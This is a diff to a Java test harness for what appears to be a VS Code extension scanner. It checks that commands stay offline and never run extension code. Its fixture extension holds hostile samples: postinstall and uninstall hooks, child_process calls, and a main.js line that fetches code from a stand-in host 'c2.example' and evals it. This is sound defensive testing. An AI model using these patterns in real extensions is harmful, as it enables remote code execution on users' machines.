@@ -10,8 +10,6 @@ import dev.vsxray.scanner.locate.Machine;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.io.PrintStream;
-import java.net.DatagramSocket;
-import java.net.Socket;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -20,12 +18,11 @@ import java.time.ZoneOffset;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
-import java.util.concurrent.atomic.AtomicInteger;
 import picocli.CommandLine;
 
 /**
- * Runs every command that does not say that it goes online, in a Java in which every socket is an error, and counts the
- * attempts. Started by {@link OfflineTest} in a process of its own, since the guard cannot be taken off again.
+ * Runs every command that does not say that it goes online under a {@link SilenceGuard}, and prints its exit code and what
+ * was tried. Started by {@link OfflineTest} in a process of its own, since the guard cannot be taken off again.
  */
 final class EveryCommand {
 
@@ -34,7 +31,8 @@ final class EveryCommand {
 
     private static final String EXTENSION = ".vscode/extensions/acme.tool-1.0.0";
 
-    private static final AtomicInteger ATTEMPTS = new AtomicInteger();
+    /** What nobody sees unless the code of the extension below is run. */
+    static final String MARK = "it-ran";
 
     private final Path folder;
     private final Programs crontab = new Crontab();
@@ -44,10 +42,7 @@ final class EveryCommand {
     }
 
     /** @param arguments the folder to work in */
-    @SuppressWarnings("deprecation") // deprecated as a way to make sockets; to forbid them there is no other
     public static void main(String[] arguments) throws IOException, InterruptedException {
-        Socket.setSocketImplFactory(EveryCommand::refused);
-        DatagramSocket.setDatagramSocketImplFactory(EveryCommand::refused);
         EveryCommand commands = new EveryCommand(Path.of(arguments[0]));
         commands.layOut();
         List<String> untried = leaves("", commands.commandLine(nowhere()));
@@ -55,12 +50,31 @@ final class EveryCommand {
         for (List<String> command : COMMANDS) {
             String words = String.join(" ", command);
             untried.removeIf(leaf -> words.equals(leaf) || words.startsWith(leaf + " "));
-            System.out.println(commands.run(command) + " " + words);
+            int before = SilenceGuard.attempts().size();
+            int exitCode = commands.run(command);
+            List<String> attempts = SilenceGuard.attempts();
+            System.out.println(exitCode + " " + words + " " + attempts.subList(before, attempts.size()));
         }
         System.out.println("untried: " + untried);
-        System.out.println("offline attempts: " + ATTEMPTS.get());
+        int before = SilenceGuard.attempts().size();
         commands.run(List.of("scan", "acme.tool", "--online", "--gallery", "http://127.0.0.1:9/"));
-        System.out.println("online attempts: " + ATTEMPTS.get());
+        System.out.println("online: " + (SilenceGuard.attempts().size() - before));
+        WaysOut.all().forEach((name, way) -> System.out.println((isRefused(way) ? "refused " : "NOT REFUSED ") + name));
+        // The default clients of the JDK keep threads.
+        System.exit(0);
+    }
+
+    private static boolean isRefused(WaysOut.Way way) {
+        int before = SilenceGuard.attempts().size();
+        try {
+            way.take();
+            return false;
+        } catch (InterruptedException interrupted) {
+            Thread.currentThread().interrupt();
+            return false;
+        } catch (IOException | RuntimeException refused) {
+            return SilenceGuard.attempts().size() > before;
+        }
     }
 
     private static final List<List<String>> COMMANDS = List.of(
@@ -81,7 +95,7 @@ final class EveryCommand {
             List.of("rules", "bench", ".vscode/extensions"),
             List.of("config", "show"),
             List.of("strings", EXTENSION + "/main.js"),
-            List.of("decode", "aGVsbG8gd29ybGQsIGhlbGxv"),
+            List.of("decode", "cmVxdWlyZSgnZnMnKQ=="),
             List.of("allow", "acme.other", "--reason", "Read.", "--expires", "never", "--owner", "ada"),
             List.of("deny", "acme.bad", "--reason", "Bad.", "--expires", "never", "--owner", "ada"),
             List.of(
@@ -124,11 +138,23 @@ final class EveryCommand {
             List.of("quarantine", "acme.tool"),
             List.of("restore", "acme.tool"));
 
+    /** An extension that names many ways to be run, would leave a mark, and has all kinds of content. */
     private void layOut() throws IOException {
-        write(
-                EXTENSION + "/package.json",
-                "{\"publisher\": \"acme\", \"name\": \"tool\", \"version\": \"1.0.0\", \"main\": \"./main.js\"}");
-        write(EXTENSION + "/main.js", "require('https').get('https://c2.example/x');");
+        String mark = folder.resolve(MARK).toString().replace("\\", "\\\\");
+        write(EXTENSION + "/package.json", """
+                {"publisher": "acme", "name": "tool", "version": "1.0.0", "engines": {"vscode": "*"},
+                 "main": "./main.js", "activationEvents": ["*"],
+                 "scripts": {"vscode:uninstall": "touch %1$s", "postinstall": "touch %1$s"},
+                 "icon": "https://c2.example/icon.png"}
+                """.formatted(mark));
+        write(EXTENSION + "/main.js", """
+                require('fs').writeFileSync('%1$s', 'x');
+                require('child_process').execSync('touch %1$s');
+                eval(Buffer.from('cmVxdWlyZSgnZnMnKQ==', 'base64').toString());
+                require('https').get('https://c2.example/x', response => response.on('data', data => eval(data)));
+                """.formatted(mark));
+        write(EXTENSION + "/page.html", "<script src='https://c2.example/x.js'></script><img src='//c2.example/p'>");
+        write(EXTENSION + "/run.sh", "#!/bin/sh\ntouch " + mark + "\n");
         write("list.txt", "acme.bad\n");
         write("files.tsv", "package\tversion\tpath\tsha256\nleft-pad\t1.0.0\tindex.js\t" + "9c".repeat(32) + "\n");
         write("state/notify.yaml", "notify: {threshold: risky, channels: [{type: file, path: events.jsonl}]}\n");
@@ -151,11 +177,6 @@ final class EveryCommand {
         command.getSubcommands()
                 .forEach((word, below) -> leaves.addAll(leaves(name.isEmpty() ? word : name + " " + word, below)));
         return leaves;
-    }
-
-    private static <T> T refused() {
-        ATTEMPTS.incrementAndGet();
-        throw new IllegalStateException("a socket was opened");
     }
 
     private int run(List<String> command) throws InterruptedException {
